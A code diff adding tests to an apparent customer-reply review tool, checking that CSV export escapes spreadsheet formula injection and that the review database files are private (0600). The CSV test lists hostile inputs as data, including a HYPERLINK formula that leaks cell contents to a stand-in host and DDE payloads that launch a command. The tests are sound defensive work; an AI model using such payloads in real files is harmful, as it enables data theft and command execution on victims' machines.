@@ -156,3 +156,61 @@ def test_cli_export_writes_a_valid_suite(demo, tmp_path):
     assert suite["cases"][0]["id"] == f"review-{draft_id}" and suite["cases"][0][
         "reference_reply"
     ].startswith("您好～干皮")
+
+
+def test_csv_export_is_inert_in_a_spreadsheet_and_opens_in_excel(demo, tmp_path):
+    """Customer text that a spreadsheet would run (=, +, -, @, tab, CR first) is prefixed with ', and
+    the file starts with a UTF-8 BOM so Excel/WPS on a Chinese Windows shows the Chinese."""
+    import csv
+    import io
+
+    log = ReviewLog(tmp_path / "review.db")
+    hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,1)",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    customer = log.create_customer("=cmd|' /C calc'!A0")
+    for text in hostile:
+        log.decide(make_draft(demo, log, customer, text, operator="@ann"), "rejected", reason="-1 bad")
+    exported = log.to_csv(log.drafts())
+    assert exported.startswith("\ufeff") and exported.encode("utf-8").startswith(b"\xef\xbb\xbf")
+    rows = list(csv.DictReader(io.StringIO(exported.removeprefix("\ufeff"))))
+    assert sorted(r["input_text"] for r in rows) == sorted("'" + t for t in hostile)
+    for row in rows:
+        assert row["customer"] == "'=cmd|' /C calc'!A0" and row["operator"] == "'@ann"
+        assert row["reason_text"] == "'-1 bad"
+        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
+
+
+def test_the_review_log_is_0600_from_the_start(demo, tmp_path):
+    import os
+    import stat
+
+    old = os.umask(0o022)
+    try:
+        log = ReviewLog(tmp_path / "data" / "review.db")
+        customer = log.create_customer("小美")
+        draft_id = make_draft(demo, log, customer, "你好")
+        with sqlite3.connect(log.path) as reader:  # keep a reader open so the WAL and shm files stay
+            reader.execute("SELECT COUNT(*) FROM drafts").fetchone()
+            log.decide(draft_id, "approved")
+            files = {p.name: stat.S_IMODE(p.stat().st_mode) for p in log.path.parent.iterdir()}
+    finally:
+        os.umask(old)
+    assert {"review.db", "review.db-wal", "review.db-shm"} <= set(files), files
+    assert all(mode == 0o600 for mode in files.values()), {k: oct(v) for k, v in files.items()}
+    assert stat.S_IMODE(log.path.parent.stat().st_mode) == 0o700
+
+
+def test_an_older_readable_review_log_is_made_private(tmp_path):
+    import stat
+
+    path = tmp_path / "review.db"
+    sqlite3.connect(path).close()
+    path.chmod(0o644)
+    ReviewLog(path)
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
